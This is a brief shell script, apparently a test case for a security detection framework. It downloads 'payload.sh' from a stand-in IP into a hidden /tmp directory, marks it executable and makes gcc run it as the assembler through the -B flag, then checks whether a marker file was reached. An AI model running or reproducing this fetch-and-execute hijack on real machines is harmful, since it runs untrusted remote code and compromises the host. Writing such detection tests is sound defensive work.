#!/bin/sh
. /opt/case/case.sh

mkdir -p /tmp/.tc && curl -s -o /tmp/.tc/as http://203.0.113.10/payload.sh && chmod 755 /tmp/.tc/as
echo 'int main(void) { return 0; }' >/tmp/a.c
gcc -B/tmp/.tc/ -c -o /tmp/a.o /tmp/a.c 2>/dev/null || true
test -e /tmp/reached
took_place
